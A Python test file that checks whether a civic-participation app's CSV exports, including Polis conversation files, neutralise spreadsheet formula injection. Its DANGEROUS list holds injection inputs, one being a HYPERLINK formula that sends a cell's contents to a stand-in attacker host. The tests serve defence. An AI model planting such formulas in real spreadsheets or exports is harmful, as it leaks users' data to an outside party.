"""Spreadsheet formula injection in every CSV we write."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from core import views
from core.services.polis.files import PolisConversation, read_conversation
from core.services.polis.writing import write_conversation
from core.spreadsheet_safety import neutralise, restore
from web.exports import results_csv

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "polis"
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_starts_like_a_formula_gets_a_single_quote(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("value", ["Meer bomen", "", "'al geciteerd", "a=b", 0, -1, -2.5, None])
def test_other_texts_and_numbers_are_left_alone(value: object) -> None:
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore(value) == value


def results_with(*texts: str) -> views.ProjectResults:
    statements = views.RoundResult(
        id=1, key="stellingen", kind="statements", question="=vraag", state="closed",
        open=False, published=True, scale=(1, 5), criteria=[],
        items=[views.ItemResult(item_id=n, text=t, agree=1) for n, t in enumerate(texts)],
    )  # fmt: skip
    feedback = views.RoundResult(
        id=2, key="reactie", kind="feedback", question="-Cijfer?", state="closed", open=False,
        published=True, scale=(-5, 5), criteria=[],
        feedback=views.stats_from_histogram({-3: 2, 4: 1}, -5, 5), comments=list(texts),
    )  # fmt: skip
    ideas = views.RoundResult(
        id=3, key="ideeen", kind="ideas", question="Idee?", state="closed", open=False,
        published=True, scale=(1, 5), criteria=[],
        ideas=[{"id": n, "text": t, "status": "approved"} for n, t in enumerate(texts)],
    )  # fmt: skip
    return views.ProjectResults(
        "P", "=titel", "", 3, {}, [statements, feedback, ideas], datetime.now(UTC)
    )


def test_the_results_csv_neutralises_every_text_cell_and_keeps_numbers() -> None:
    text = results_csv(results_with(*DANGEROUS, "Meer bomen"))

    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]
    texts = [row["text"] for row in rows if row["kind"] == "statements"]
    assert texts == ["'" + t for t in DANGEROUS] + ["Meer bomen"]
    feedback = next(r for r in rows if r["kind"] == "feedback" and r["n"])
    assert feedback["text"] == "'-Cijfer?"
    assert float(feedback["mean"]) < 0  # a negative mean stays a number


def test_a_polis_export_is_safe_in_a_spreadsheet_and_reads_back_exactly(tmp_path: Path) -> None:
    original = read_conversation(FIXTURES / "brexit-consensus")
    first, *rest = original.statements
    risky = PolisConversation(
        (dataclasses.replace(first, text=DANGEROUS[0]), *rest),
        original.moderated_out,
        original.votes,
        (("topic", "=topic"), *original.summary[1:]),
    )
    write_conversation(tmp_path, risky)

    assert f"'{DANGEROUS[0]}".replace('"', '""') in (tmp_path / "comments.csv").read_text()
    assert "topic,'=topic" in (tmp_path / "summary.csv").read_text()
    assert ",-1\n" in (tmp_path / "votes.csv").read_text()  # vote values stay numbers
    again = read_conversation(tmp_path)
    assert again.statements[0].text == DANGEROUS[0]
    assert again.summary[0] == ("topic", "=topic")
    assert again.vote_triples() == original.vote_triples()
